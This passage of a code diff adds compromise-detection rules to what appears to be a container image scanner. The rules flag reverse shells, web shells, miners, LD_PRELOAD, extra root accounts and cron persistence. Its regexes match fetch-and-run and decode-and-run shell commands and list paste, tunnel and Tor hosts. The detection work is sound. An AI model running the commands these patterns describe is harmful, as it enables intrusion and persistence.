+        identity: [...new Set(inner.map(({ detector }) => detector))].sort(),
+        line: first2.inside === null ? first2.line : null,
+        inside: first2.inside,
+        ...ending2 === null ? {} : { severity: hiddenSeverity }
+      });
+    }
+  }
+}
+
+// src/rules/compromise/crypto-miner.ts
+var meta23 = {
+  id: "crypto-miner",
+  title: "A crypto miner",
+  description: "The image holds a miner, its settings, or the address of a mining pool.",
+  remedy: "Take it out, find out who brought it, and rebuild from a source that you trust.",
+  severity: "high",
+  confidence: "high",
+  kind: "rule",
+  references: [REFERENCES.attackHijacking],
+  enabled: true
+};
+var REMEDY = "Take it out, and find out who brought it: layergate timeline IMAGE. Rebuild from a source that you trust.";
+var cryptoMiner = {
+  meta: meta23,
+  *check(evidence) {
+    yield* inSteps(meta23, evidence, REMEDY);
+    yield* inFiles(meta23, evidence, { isMeant: () => true, remedy: REMEDY });
+  }
+};
+
+// src/rules/compromise/data-after-archive-end.ts
+var meta24 = {
+  id: "data-after-archive-end",
+  title: "Files behind the end of a layer",
+  description: "The tar of a layer goes on behind its end: no engine unpacks what is there, and whoever pulls the image has it.",
+  remedy: "Build the image again with a builder that you trust; layergate recover writes what is there.",
+  severity: "high",
+  confidence: "high",
+  kind: "rule",
+  references: [REFERENCES.attackHidden],
+  enabled: true
+};
+var INDEX = "/stargz.index.json";
+var dataAfterArchiveEnd = {
+  meta: meta24,
+  *check(evidence) {
+    for (const versions of evidence.filesystem.versions) {
+      const hidden = versions.filter(({ entry, path: path26 }) => entry.afterEnd && path26 !== INDEX);
+      const [first2] = hidden;
+      if (first2 === void 0) continue;
+      yield onVersion(meta24, evidence, first2, {
+        message: `Layer ${first2.layer} goes on behind the end of its tar, with ${hidden.length === 1 ? "one entry" : `${hidden.length} entries`}: ${first2.path}. No engine unpacks it, and no builder writes it.`,
+        remedy: `Build the image again with a builder that you trust. layergate recover IMAGE --layer ${first2.layer} --to DIR writes what is there.`,
+        identity: ["after end"]
+      });
+    }
+  }
+};
+
+// src/rules/compromise/extra-root-account.ts
+var meta25 = {
+  id: "extra-root-account",
+  title: "A second root, or an account without a password",
+  description: "An account other than root has uid 0, or an account that can log in has an empty password.",
+  remedy: "Remove the account, or give it a uid of its own and lock its password.",
+  severity: "high",
+  confidence: "high",
+  kind: "rule",
+  references: [REFERENCES.attackAccount, REFERENCES.attackAccounts],
+  enabled: true
+};
+var NO_LOGIN = /(?:^|\/)(?:nologin|false|sync|shutdown|halt|true)$/;
+var accountsIn = (text5) => text5.split("\n").flatMap((line2) => {
+  const [name2 = "", password = "", uid = "", , , , shell = ""] = line2.trim().split(":");
+  return name2 === "" || name2.startsWith("#") || uid === "" ? [] : [{ name: name2, password, uid, shell }];
+});
+var extraRootAccount = {
+  meta: meta25,
+  *check(evidence) {
+    const passwd = collectedFile(evidence, "/etc/passwd");
+    if (passwd === null) return;
+    const accounts = accountsIn(passwd.text);
+    const canLogIn = ({ shell }) => shell === "" || !NO_LOGIN.test(shell);
+    for (const account of accounts) {
+      if (!/^0+$/.test(account.uid) || account.name === "root" || account.name === "toor" || !canLogIn(account))
+        continue;
+      yield onVersion(meta25, evidence, passwd.version, {
+        message: `/etc/passwd: ${evidence.cut(account.name, 40)} has uid 0. It is root by another name.`,
+        remedy: `Remove the account (userdel ${evidence.cut(account.name, 40)}), or give it a uid of its own.`,
+        identity: ["uid 0", account.name]
+      });
+    }
+    for (const account of accounts)
+      if (account.password === "" && canLogIn(account))
+        yield onVersion(meta25, evidence, passwd.version, {
+          message: `/etc/passwd: ${evidence.cut(account.name, 40)} has no password.`,
+          remedy: `Lock it: passwd -l ${evidence.cut(account.name, 40)}.`,
+          identity: ["no password", account.name]
+        });
+    const shadow = collectedFile(evidence, "/etc/shadow");
+    if (shadow === null) return;
+    const known3 = new Map(accounts.map((account) => [account.name, account]));
+    for (const line2 of shadow.text.split("\n")) {
+      const [name2 = "", password] = line2.trim().split(":");
+      const account = known3.get(name2);
+      if (password !== "" || account === void 0 || account.password !== "x" || !canLogIn(account)) continue;
+      yield onVersion(meta25, evidence, shadow.version, {
+        message: `/etc/shadow: ${evidence.cut(name2, 40)} has no password: anyone becomes it, by su or over SSH.`,
+        remedy: `Lock it: passwd -l ${evidence.cut(name2, 40)}.`,
+        identity: ["no password", name2]
+      });
+    }
+  }
+};
+
+// src/image/path.ts
+import { isUtf8 } from "node:buffer";
+var UNCLEAN = /(?:^|\/)\.{0,2}(?:\/|$)/;
+function cleanPath(name2) {
+  const inner = name2.slice(
+    name2.startsWith("./") ? 2 : name2.startsWith("/") ? 1 : 0,
+    name2.endsWith("/") ? -1 : void 0
+  );
+  if (!UNCLEAN.test(inner)) return `/${inner}`;
+  const parts = [];
+  for (const part3 of name2.split("/")) {
+    if (part3 === "" || part3 === ".") continue;
+    if (part3 === "..") parts.pop();
+    else parts.push(part3);
+  }
+  return `/${parts.join("/")}`;
+}
+var resolveLink = (from, target) => cleanPath(target.startsWith("/") ? target : `${parentOf2(from)}/${target}`);
+var parentOf2 = (path26) => path26.slice(0, path26.lastIndexOf("/")) || "/";
+var baseName = (path26) => path26.slice(path26.lastIndexOf("/") + 1);
+var childOf = (directory, name2) => directory === "/" ? `/${name2}` : `${directory}/${name2}`;
+function countParts(path26) {
+  let parts = 0;
+  let inside = false;
+  for (let at3 = 0; at3 < path26.length; at3++) {
+    const isSlash = path26.charCodeAt(at3) === 47;
+    if (!isSlash && !inside) parts++;
+    inside = !isSlash;
+  }
+  return parts;
+}
+var LOSSY = "\uFFFD";
+function decodeName(bytes2) {
+  const text5 = bytes2.toString("utf8");
+  if (!text5.includes(LOSSY) || isUtf8(bytes2)) return text5;
+  let name2 = "";
+  for (let at3 = 0; at3 < bytes2.length; ) {
+    const length = [1, 2, 3, 4].find((count2) => at3 + count2 <= bytes2.length && isUtf8(bytes2.subarray(at3, at3 + count2)));
+    name2 += length === void 0 ? String.fromCharCode(56320 + (bytes2[at3] ?? 0)) : bytes2.toString("utf8", at3, at3 + length);
+    at3 += length ?? 1;
+  }
+  return name2;
+}
+var isSameName = (name2, lossy) => name2 === lossy || /[\udc80-\udcff]/u.test(name2) && bytesOfName(name2).toString("utf8") === lossy;
+function bytesOfName(name2) {
+  return Buffer.concat(
+    name2.split(/([\udc80-\udcff])/u).map(
+      (part3) => /^[\udc80-\udcff]$/u.test(part3) ? Buffer.from([part3.charCodeAt(0) - 56320]) : Buffer.from(part3)
+    )
+  );
+}
+
+// src/rules/compromise/hidden-executable.ts
+var meta26 = {
+  id: "hidden-executable",
+  title: "A program that hides",
+  description: "A program is in a directory that anyone may write, behind a name with a dot, or under a name that reads like another; or a shell has the setuid bit.",
+  remedy: "Take it out, find out who brought it, and rebuild from a source that you trust.",
+  severity: "high",
+  confidence: "high",
+  kind: "rule",
+  references: [REFERENCES.attackHidden, REFERENCES.attackMasquerade],
+  enabled: true
+};
+var SHELL = /^(?:ba|da|z|k|a|tc|c|fi)?sh(?:-\d.*)?$|^busybox/;
+var SYSTEM2 = /^\/(?:bin|sbin|lib\w*|usr|etc|opt|var|dev|run|boot|srv)\//;
+var USUAL_DOTS = /\/\.(?:build-id|venv\w*|cache|local|npm|nvm|cargo|rustup|git|bin|pnpm\w*|dotnet|nuget|gem|bundle|pyenv|rbenv|sdkman|vscode\w*|config|yarn\w*|libs|dylibs|m2|gradle|conda|deno|bun|mix|hex|asdf|volta|poetry|pipx|uv|steam|wine|julia|opam|ghcup|cabal|stack|swiftpm|jenv|tfenv|krew|helm|docker|kube|terraform\.d|store|linuxbrew|linkerd2|fnm|next|nuxt|output|netlify|vercel|husky|node-gyp|electron|playwright|puppeteer|cypress|modules?)(?:\/|$)/;
+var UNSEEN = /[\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff\u00ad]/u;
+var OPEN = /^\/(?:tmp|var\/tmp|dev\/shm|dev|run\/shm)\//;
+function oddity({ path: path26, entry }, kind) {
+  const name2 = baseName(path26);
+  if ((entry.mode & 2048) !== 0 && (kind === "bash" || kind === "busybox" || SHELL.test(name2)) && (entry.mode & 73) !== 0)
+    return kind === "busybox" && name2 === "busybox" ? null : { says: "is a shell with the setuid bit: whoever starts it is its owner", severity: "critical" };
+  if (kind === null) return null;
+  if (UNSEEN.test(path26)) return { says: "has characters in its name that nobody sees", severity: "high" };
+  if (/^\.{3,}$|^\s|\s$/.test(name2) || /\/(?:\.{3,}|\s[^/]*|[^/]*\s)\//.test(path26))
+    return { says: "has a name that reads like nothing", severity: "high" };
+  const isBinary = kind !== "script";
+  const isDotted = /\/\.[^/]/.test(path26) && !USUAL_DOTS.test(path26);
+  if (isBinary && isDotted && (SYSTEM2.test(path26) || OPEN.test(path26)))
+    return { says: "hides behind a dot, in a directory of the system", severity: "high" };
+  if (isBinary && OPEN.test(path26))
+    return { says: "is a program in a directory that anyone may write", severity: "medium" };
+  return null;
+}
+var hiddenExecutable = {
+  meta: meta26,
+  *check(evidence) {
+    const kinds = evidence.layers.map(({ programs }) => new Map(programs));
+    for (const version2 of presentFiles(evidence)) {
+      const kind = kinds[version2.layer]?.get(version2.index) ?? null;
+      const odd = oddity(version2, kind);
+      if (odd === null || evidence.isVouched(version2.layer, version2.path)) continue;
+      yield onVersion(meta26, evidence, version2, {
+        severity: odd.severity,
+        message: `${version2.path} ${odd.says}.`,
+        remedy: `Take it out, and find out what it is: layergate recover IMAGE ${version2.path} --to DIR.`,
+        identity: ["hidden"]
+      });
+    }
+  }
+};
+
+// src/rules/compromise/loader-preload.ts
+var meta27 = {
+  id: "loader-preload",
+  title: "A library is loaded into every program",
+  description: "/etc/ld.so.preload or LD_PRELOAD loads a library into every program: it sees and changes all that they do.",
+  remedy: "Take it out, or say with an ignore entry what it is for.",
+  severity: "high",
+  confidence: "high",
+  kind: "rule",
+  references: [REFERENCES.attackPreload],
+  enabled: true
+};
+var FILE = "/etc/ld.so.preload";
+var USUAL = /(?:jemalloc|tcmalloc|mimalloc|snmalloc|hoard|faketime|eatmydata|nss_wrapper|fakeroot|fakechroot|gcompat|memusage|[atu]san|heaptrack|gomp|stdc\+\+|iconv|segfault|ddtrace|datadog|dd_|otel|newrelic|appdynamics|dynatrace|oneagent|libnuma|libcuda|libhugetlbfs|umem|proxychains|torsocks|stdbuf|libintl|libvips|libhoard)[\w.+-]{0,60}(?:\s|$|:)/i;
+var loaderPreload = {
+  meta: meta27,
+  *check(evidence) {
+    const file = collectedFile(evidence, FILE);
+    const named3 = file?.text.split("\n").filter((line2) => /^\s*[^#\s]/.test(line2)) ?? [];
+    if (file !== null && named3.length > 0 && !evidence.isVouched(file.version.layer, FILE))
+      yield onVersion(meta27, evidence, file.version, {
+        message: `${FILE} loads ${evidence.cut(named3.map((line2) => line2.trim()).join(", "), 100)} into every program of the image, set-uid ones too. No package writes this file.`,
+        remedy: `Take ${FILE} out, and look at the library: layergate files IMAGE ${(named3[0] ?? "").trim()}.`,
+        identity: [FILE]
+      });
+    for (const { name: name2, value, step: step2 } of evidence.environment) {
+      if (name2 !== "LD_PRELOAD" || value.trim() === "" || value.split(/[\s:]+/).every((each2) => each2 === "" || USUAL.test(`${each2} `)))
+        continue;
+      const finding = {
+        severity: "medium",
+        confidence: "medium",
+        message: `LD_PRELOAD loads ${evidence.cut(value, 80)} into every program of the container.`,
+        remedy: "Take it out, or set it for the one program that needs it.",
+        identity: ["LD_PRELOAD", value]
+      };
+      yield step2 === null ? placed(meta27, {
+        ...finding,
+        location: { kind: "config", field: "Env.LD_PRELOAD" },
+        dockerfile: null,
+        origin: "unknown"
+      }) : onStep(meta27, step2, finding);
+    }
+  }
+};
+
+// src/rules/compromise/packed-executable.ts
+var meta28 = {
+  id: "packed-executable",
+  title: "A packed program",
+  description: "A program of the image is packed with UPX: scanners see nothing of what it does.",
+  remedy: "Unpack it with upx -d, or build it without.",
+  severity: "low",
+  confidence: "high",
+  kind: "rule",
+  references: [REFERENCES.attackPacking],
+  enabled: true,
+  strict: "medium"
+};
+var packedExecutable = {
+  meta: meta28,
+  *check(evidence) {
+    yield* inFiles(meta28, evidence, {
+      // UPX itself, and what only holds the text.
+      isMeant: (version2) => evidence.layers[version2.layer]?.programs.some(
+        ([entry, kind]) => entry === version2.index && (kind === "elf" || kind === "busybox" || kind === "bash")
+      ) === true && !/\/upx(?:-ucl)?$/.test(version2.path),
+      remedy: "Build the program without UPX, or unpack it (upx -d): layers are compressed anyway, and no scanner sees into it.",
+      hiddenSeverity: "low"
+    });
+  }
+};
+
+// src/rules/compromise/suspicious.ts
+var HOSTS = [
+  [
+    /(?:pastebin\.com\/raw|paste\.ee\/r|hastebin\.com\/raw|rentry\.co\/[\w-]+\/raw|ghostbin\.\w+\/|controlc\.com|dpaste\.\w+\/|termbin\.com|ix\.io\/\w|sprunge\.us\/\w|0x0\.st\/\w)/i,
+    "a paste site"
+  ],
+  [
+    /(?:transfer\.sh\/|file\.io\/|anonfiles\.com|gofile\.io|catbox\.moe|bashupload\.com|oshi\.at\/|temp\.sh\/)/i,
+    "a site for files of anybody"
+  ],
+  [
+    /\.(?:ngrok(?:-free)?\.(?:io|app|dev)|trycloudflare\.com|serveo\.net|loca\.lt|localhost\.run|pagekite\.me|telebit\.io|bore\.pub|portmap\.io)\b/i,
+    "a tunnel"
+  ],
+  [/\.onion(?:\.(?:to|ws|ly|pet|cab))?\b/i, "a hidden service of Tor"],
+  [
+    /\.(?:duckdns\.org|no-ip\.(?:com|org|biz)|ddns\.net|hopto\.org|zapto\.org|dyndns\.org|sytes\.net|myftp\.org|servebeer\.com)\b/i,
+    "dynamic DNS"
+  ]
+];
+var isPublicAddress = (address) => {
+  const parts = address.split(".").map(Number);
+  const [a = 0, b = 0] = parts;
+  if (parts.length !== 4 || parts.some((part3) => part3 > 255)) return false;
+  return !(a === 0 || a === 10 || a === 127 || a >= 224 || a === 169 && b === 254 || a === 172 && b >= 16 && b < 32 || a === 192 && b === 168 || a === 100 && b >= 64 && b < 128);
+};
+function suspiciousAddresses(text5) {
+  const found = [];
+  for (const [url2, host = ""] of text5.matchAll(
+    /\b(?:https?|ftp|tcp|socks5h?):\/\/(?:[^\s/@"'<>|;]{1,100}@)?([^\s/:"'<>|;)]{3,200})[^\s"'<>|;)]{0,200}/gi
+  )) {
+    const known3 = HOSTS.find(([pattern]) => pattern.test(url2));
+    if (known3 !== void 0) found.push({ url: url2, what: known3[1] });
+    else if (/^\d{1,3}(?:\.\d{1,3}){3}$/.test(host) && isPublicAddress(host))
+      found.push({ url: url2, what: "a bare address" });
+  }
+  return found;
+}
+var HABITS = [
+  [
+    /\b(?:curl|wget)\b[^\n|;]{0,250}\|\s{0,3}(?:sudo\s{1,3})?(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|a)?sh\b/,
+    "it runs what it downloads"
+  ],
+  [/\b(?:ba|da|z|a)?sh\s{1,3}(?:-c\s{1,3})?["']?(?:<\(|\$\(|`)\s{0,3}(?:curl|wget)\b/, "it runs what it downloads"],
+  [
+    /\bbase64\s{1,3}(?:-d|-D|--decode)\b[^\n|;]{0,80}\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|a)?sh\b/,
+    "it runs what it decodes"
+  ],
+  [
+    /(?:^|[;&|]\s{0,3}|\*\s{1,3}(?:root\s{1,3})?|ExecStart=)(?:nohup\s{1,3}|setsid\s{1,3})?(?:\/dev\/shm|\/var\/tmp|\/tmp)\/\.?[\w.-]{1,60}(?:\s|$|;|&)/m,
+    "it starts a program from a directory that anyone may write"
+  ]
+];
+function suspicionsIn(text5) {
+  const commands = text5.split("\n").filter((line2) => !/^[ \t]{0,40}(?:#|;|\/\/)/.test(line2)).join("\n");
+  return [
+    .../* @__PURE__ */ new Set([
+      ...indicatorsIn(commands).map(({ detector }) => detector.title),
+      ...HABITS.flatMap(([habit, what]) => habit.test(commands) ? [what] : []),
+      ...suspiciousAddresses(commands).map(({ what }) => `it calls ${what}`)
+    ])
+  ];
+}
+
+// src/rules/compromise/persistence.ts
+var CRON = /^\/etc\/(?:cron(?:tab|\.d\/[^/]+|\.(?:hourly|daily|weekly|monthly)\/[^/]+)|crontabs\/[^/]+|periodic\/[^/]+\/[^/]+)$|^\/var\/spool\/cron\/(?:crontabs\/)?[^/]+$/;
+var INIT = /^\/(?:etc|usr\/lib|lib)\/systemd\/system\/[^/]+\.(?:service|timer)$|^\/etc\/(?:rc\.local|rc\.d\/rc\.local|profile|profile\.d\/[^/]+|bash\.bashrc|init\.d\/[^/]+|local\.d\/[^/]+|supervisor\/conf\.d\/[^/]+)$|^\/(?:root|home\/[^/]+)\/\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zprofile)$/;
+var metaOf = (id, title, description, reference) => ({
+  id,
+  title,
+  description,
+  remedy: "Take it out, find out who brought it, and rebuild from a source that you trust.",
+  severity: "high",
+  confidence: "high",
+  kind: "rule",
+  references: [reference],
+  enabled: true
+});
+var ruleOver = (meta42, paths) => ({
+  meta: meta42,
+  *check(evidence) {
+    for (const version2 of presentFiles(evidence)) {
+      if (!paths.test(version2.path)) continue;
+      const text5 = evidence.collected(version2.path);
+      const why = text5 === null ? [] : suspicionsIn(text5);
+      if (why.length === 0 || evidence.isVouched(version2.layer, version2.path)) continue;
+      yield onVersion(meta42, evidence, version2, {
+        message: `${version2.path} runs by itself, and ${why.join("; ")}.`,
+        remedy: `Take it out, and find out who brought it: layergate cat IMAGE ${version2.path}, layergate timeline IMAGE.`,
+        identity: ["runs by itself"]
+      });
+    }
+  }
+});
+var cronPersistence = ruleOver(
+  metaOf(
+    "cron-persistence",
+    "A job of cron that calls out",
+    "A job of cron downloads and runs something, opens a shell to somebody, or starts a program from a directory that anyone may write.",
+    REFERENCES.attackCron
+  ),
+  CRON
+);
+var initPersistence = ruleOver(
+  metaOf(
+    "init-persistence",
+    "A start script that calls out",
+    "A unit, an init script or a script of login downloads and runs something, opens a shell to somebody, or starts a program from a directory that anyone may write.",
+    REFERENCES.attackBoot
+  ),
+  INIT
+);
+
+// src/rules/compromise/reverse-shell.ts
+var meta29 = {
+  id: "reverse-shell",
+  title: "A reverse shell",
+  description: "A command, script or job of the image hands a shell to a network connection.",
+  remedy: "Take the image out of use, find out who brought it, and rebuild from a source that you trust.",
+  severity: "critical",
+  confidence: "high",
+  kind: "rule",
+  references: [REFERENCES.attackShell, REFERENCES.attackProtocol],
+  enabled: true
+};
+var REMEDY2 = "Take the image out of use, and find out who brought it: layergate timeline IMAGE, layergate recover IMAGE PATH --to DIR. Rebuild from a source that you trust.";
+var reverseShell = {
+  meta: meta29,
+  *check(evidence) {
+    yield* inSteps(meta29, evidence, REMEDY2);
+    yield* inFiles(meta29, evidence, { isMeant: () => true, remedy: REMEDY2 });
+  }
+};
+
+// src/rules/compromise/suspicious-url.ts
+var meta30 = {
+  id: "suspicious-url",
+  title: "A download from nobody in particular",
+  description: "The build or a start command fetches from a paste site, a bare address, a tunnel, Tor or dynamic DNS.",
+  remedy: "Fetch from a host that somebody answers for, and check what comes against a checksum.",
+  severity: "medium",
+  confidence: "high",
+  kind: "rule",
+  references: [REFERENCES.attackTransfer],
+  enabled: true,
+  strict: "high"
+};
+var suspiciousUrl = {
+  meta: meta30,
+  *check({ steps, cut }) {
+    for (const step2 of steps) {
+      if (step2.of !== "image" || !/^(?:RUN|ADD|CMD|ENTRYPOINT|HEALTHCHECK)$/.test(step2.keyword ?? "")) continue;
+      const [first2] = suspiciousAddresses(step2.text);
+      if (first2 === void 0) continue;
+      yield onStep(meta30, step2, {
+        message: `${step2.keyword} names ${cut(first2.url, 80)}, ${first2.what}: anyone can stand behind it tomorrow.`,
+        remedy: "Fetch from a host that somebody answers for, by https and with a checksum, or keep the file in the repository.",
+        identity: [first2.url]
+      });
+    }
+  }
+};
+
+// src/rules/compromise/web-shell.ts
+var meta31 = {
+  id: "web-shell",
+  title: "A web shell",
+  description: "A page of the image runs what a request sends.",
+  remedy: "Take the image out of use, find out who brought it, and rebuild from a source that you trust.",
+  severity: "critical",
+  confidence: "high",
+  kind: "rule",
+  references: [REFERENCES.attackWebShell],
+  enabled: true
+};
+var PAGES = /\.(?:php[3-8]?|phtml|phar|inc|jspx?|jspf|war|aspx?|ashx|asmx|cshtml|py|cgi|htaccess|ico|gif|jpe?g|png|bmp|txt|log|html?)$/i;
+var webShell = {
+  meta: meta31,
+  *check(evidence) {
+    yield* inFiles(meta31, evidence, {
+      isMeant: ({ path: path26 }) => PAGES.test(path26),
+      remedy: "Take the image out of use, and look at the page: layergate cat IMAGE PATH. If it is meant, let it run a fixed list of commands, never the words of a request."
+    });
+  }
+};
+
+// src/rules/image/build-tools-left.ts
+var meta32 = {
   id: "build-tools-left",
   title: "Tools of the build stay in the image",
   description: "The final image holds compilers or headers that own layers brought: they serve the build, and whoever breaks in.",
@@ -32360,7 +33278,7 @@ function toolsOf({ filesystem, origin, steps }) {
   return found;
 }
 var buildToolsLeft = {
-  meta: meta21,
+  meta: meta32,
   *check(evidence) {
     for (const [layer, { tools, version: version2 }] of toolsOf(evidence)) {
       const step2 = evidence.steps.find((candidate) => candidate.of === "image" && candidate.layer === layer);
@@ -32376,9 +33294,9 @@ var buildToolsLeft = {
         remedy: "Build in a stage of its own and COPY --from the result, or remove them in the RUN that installs them (apt-get purge --auto-remove, apk del .build-deps).",
         identity: ["build-tools", step2?.keyword ?? ""]
       };
-      if (step2 !== void 0 && command2 !== void 0) yield onCommand(meta21, step2, command2, own2);
+      if (step2 !== void 0 && command2 !== void 0) yield onCommand(meta32, step2, command2, own2);
       else
-        yield placed(meta21, {
+        yield placed(meta32, {
           ...own2,
           location: { kind: "layer", layer, path: version2.path, line: null, offset: null },
           dockerfile: evidence.origin.layers[layer]?.lines ?? null,
@@ -32389,7 +33307,7 @@ var buildToolsLeft = {
 };
 
 // src/rules/image/content-not-inspected.ts
-var meta22 = {
+var meta33 = {
   id: "content-not-inspected",
   title: "Content that was not looked into",
   description: "An archive inside a layer is encrypted, damaged, of an unsupported form or too large to be opened. Its raw bytes were read all the same.",
@@ -32403,7 +33321,7 @@ var meta22 = {
 };
 var MAX_NAMED2 = 3;
 var contentNotInspected = {
-  meta: meta22,
+  meta: meta33,
   *check({ skipped, origin }) {
     const files2 = /* @__PURE__ */ new Map();
     for (const part3 of skipped) {
@@ -32419,9 +33337,9 @@ var contentNotInspected = {
       const more = inner.length > MAX_NAMED2 ? ` and ${inner.length - MAX_NAMED2} more` : "";
       const what = inner.length === 0 ? `was not looked into: ${first2.reason}` : `was not looked into wholly: ${named3.join(", ")}${more}`;
       const layer = first2.layer === null ? void 0 : origin.layers[first2.layer];
-      yield placed(meta22, {
+      yield placed(meta33, {
         message: `${path26} in ${first2.layer === null ? "the archive" : `layer ${first2.layer}`} ${what}.`,
-        remedy: meta22.remedy,
+        remedy: meta33.remedy,
         location: first2.layer === null ? { kind: "index", field: path26 } : { kind: "layer", layer: first2.layer, path: path26, line: null, offset: null },
         dockerfile: layer?.lines ?? null,
         origin: layer?.owner ?? "unknown",
@@ -32525,7 +33443,7 @@ var ANY_CACHE = new RegExp(CACHES.map(({ path: path26 }) => path26.source).join(
 var cacheOf = (path26) => ANY_CACHE.test(path26) ? CACHES.find((cache2) => cache2.path.test(path26)) ?? null : null;
 
 // src/rules/image/package-cache-left.ts
-var meta23 = {
+var meta34 = {
   id: "package-cache-left",
   title: "A package cache stays in the layer",
   description: "A layer holds lists or archives that a package manager keeps for the next time; nothing in a container asks for them.",
@@ -32556,7 +33474,7 @@ function leftIn({ layers, filesystem }, layer) {
 }
 var filler = ({ commands }, { by }) => commands.findLast(({ name: name2 }) => by.test(name2)) ?? null;
 var packageCacheLeft = {
-  meta: meta23,
+  meta: meta34,
   *check(evidence) {
     for (const step2 of evidence.steps) {
       if (step2.layer === null || step2.of !== "image" || step2.owner === "base") continue;
@@ -32568,7 +33486,7 @@ var packageCacheLeft = {
           identity: [cache2.name]
         };
         const command2 = filler(step2, cache2);
-        yield command2 === null ? onStep(meta23, step2, own2) : onCommand(meta23, step2, command2, own2);
+        yield command2 === null ? onStep(meta34, step2, own2) : onCommand(meta34, step2, command2, own2);
       }
     }
   }
@@ -32639,7 +33557,7 @@ function copyMode({ keyword, flags, text: text5 }) {
 }
 
 // src/rules/image/setuid-added.ts
-var meta24 = {
+var meta35 = {
   id: "setuid-added",
   title: "A program gets more rights than its user",
   description: "The build sets the setuid or setgid bit on a program, or gives it capabilities.",
@@ -32662,7 +33580,7 @@ function isTakenBack({ filesystem }, { value, kind }) {
   return version2 === null || (version2.content.entry.mode & 3072) === 0;
 }
 var setuidAdded = {
-  meta: meta24,
+  meta: meta35,
   *check(evidence) {
     const { steps, built } = evidence;
     const told = /* @__PURE__ */ new Set();
@@ -32670,7 +33588,7 @@ var setuidAdded = {
       if (step2.of !== "image") continue;
       const copy = copyMode(step2);
       if (copy !== null && (copy.mode.setuid || copy.mode.setgid))
-        yield onStep(meta24, step2, {
+        yield onStep(meta35, step2, {
           message: `${copy.written} sets the ${copy.mode.setuid ? "setuid" : "setgid"} bit on what is copied.`,
           remedy: "Leave the first digit out of the mode.",
           identity: [copy.written]
@@ -32683,7 +33601,7 @@ var setuidAdded = {
           const severity = change.mode.setuid ? "medium" : built === null ? "info" : "medium";
           const gone = built !== null && files2.every((path26) => isTakenBack(built, path26));
           if (files2.length === 0 || gone) continue;
-          yield onCommand(meta24, step2, command2, {
+          yield onCommand(meta35, step2, command2, {
             severity,
             message: `RUN sets the ${change.mode.setuid ? "setuid" : "setgid"} bit (${quote(evidence.cut, command2)}): whoever starts ${files2[0]?.value} runs it with the rights of its ${change.mode.setuid ? "owner" : "group"}.`,
             remedy: "Leave the bit out. Where the program needs one right of root, give the container that capability when it starts (--cap-add), and forbid the rest with --security-opt=no-new-privileges.",
@@ -32696,7 +33614,7 @@ var setuidAdded = {
           if (given2 === void 0 || command2.args.some(({ value }) => value === "-r")) continue;
           const names2 = given2.toLowerCase().match(/cap_\w+|\ball\b/g) ?? [];
           const mild = names2.length > 0 && names2.every((name2) => MILD.has(name2));
-          yield onCommand(meta24, step2, command2, {
+          yield onCommand(meta35, step2, command2, {
             severity: mild ? "info" : "medium",
             message: `RUN gives ${words3.at(-1)} ${given2} (${quote(evidence.cut, command2)}): whoever starts it has ${mild ? "that right" : "rights of root"}.`,
             remedy: `Give the container the capability when it starts (--cap-add), or listen on a port above 1023.`,
@@ -32717,7 +33635,7 @@ var setuidAdded = {
         const { entry } = version2;
         if (entry.type !== "file" || (entry.mode & 3072) === 0 || (entry.mode & 73) === 0 || told.has(version2.path))
           continue;
-        yield placed(meta24, {
+        yield placed(meta35, {
           message: `${version2.path} has the ${(entry.mode & 2048) !== 0 ? "setuid" : "setgid"} bit (mode ${entry.mode.toString(8).padStart(4, "0")}, ${entry.uid === 0 ? "owned by root" : `uid ${entry.uid}`}) and is new in layer ${layer}.`,
           remedy: `Take the bit off in the same layer: COPY --chmod=755, or chmod u-s,g-s ${version2.path}.`,
           location: { kind: "layer", layer, path: version2.path, line: null, offset: null },
@@ -32731,7 +33649,7 @@ var setuidAdded = {
 };
 
 // src/rules/image/ssh-server.ts
-var meta25 = {
+var meta36 = {
   id: "ssh-server",
   title: "An SSH server in the image",
   description: "The image has an SSH server: installed, started, or its port opened.",
@@ -32764,7 +33682,7 @@ function* signs({
   steps
 }) {
   const of2 = steps.filter((step2) => step2.of === "image");
-  const onRun = (step2, command2) => (own2) => onCommand(meta25, step2, command2, own2);
+  const onRun = (step2, command2) => (own2) => onCommand(meta36, step2, command2, own2);
   for (const step2 of of2)
     for (const command2 of step2.commands) {
       const name2 = installs(command2, isServer(command2));
@@ -32773,17 +33691,17 @@ function* signs({
     }
   for (const step2 of of2) {
     if (step2.keyword === "EXPOSE" && step2.text.split(/\s+/).some((port) => /^22(?:\/tcp)?$/.test(port)))
-      yield { says: "opens port 22", draft: (own2) => onStep(meta25, step2, own2) };
+      yield { says: "opens port 22", draft: (own2) => onStep(meta36, step2, own2) };
     if (step2.keyword === "CMD" || step2.keyword === "ENTRYPOINT") {
       const words3 = jsonWords(step2.text);
       const { commands } = words3 === null ? parseScript(step2.text) : parseWords(words3);
       if (commands.some(startsServer))
-        yield { says: `starts it (${step2.keyword})`, draft: (own2) => onStep(meta25, step2, own2) };
+        yield { says: `starts it (${step2.keyword})`, draft: (own2) => onStep(meta36, step2, own2) };
     }
   }
 }
 var sshServer = {
-  meta: meta25,
+  meta: meta36,
   *check(evidence) {
     const found = [...signs(evidence)];
     const [first2] = found;
@@ -32810,7 +33728,7 @@ var sshServer = {
 };
 
 // src/rules/image/world-writable.ts
-var meta26 = {
+var meta37 = {
   id: "world-writable",
   title: "Anyone in the container may write it",
   description: "A file or directory is made writable for every user, or the umask lets new ones be.",
@@ -32839,19 +33757,19 @@ function concerned(evidence, step2, paths) {
   return left.length === 0 ? null : left.map(({ value }) => value);
 }
 var worldWritable = {
-  meta: meta26,
+  meta: meta37,
   *check(evidence) {
     for (const step2 of evidence.steps) {
       const copy = copyMode(step2);
       if (copy?.mode.worldWritable && !copy.mode.sticky && step2.of === "image")
-        yield onStep(meta26, step2, {
+        yield onStep(meta37, step2, {
           message: `${copy.written} lets every user of the container change what is copied to ${copy.paths[0]?.value ?? ""}.`,
           remedy: `Write --chmod=${copy.written.endsWith("666") ? "644" : "755"}, and --chown=USER where the container\u2019s user has to write there.`,
           identity: [step2.keyword ?? "", copy.paths[0]?.value ?? ""]
         });
       for (const command2 of step2.commands) {
         if (command2.name === "umask" && opensToAll(command2.args[0]?.value ?? "") && step2.of === "image") {
-          yield onCommand(meta26, step2, command2, {
+          yield onCommand(meta37, step2, command2, {
             message: `RUN sets the umask to ${command2.args[0]?.value}: every user may write what the commands behind it make.`,
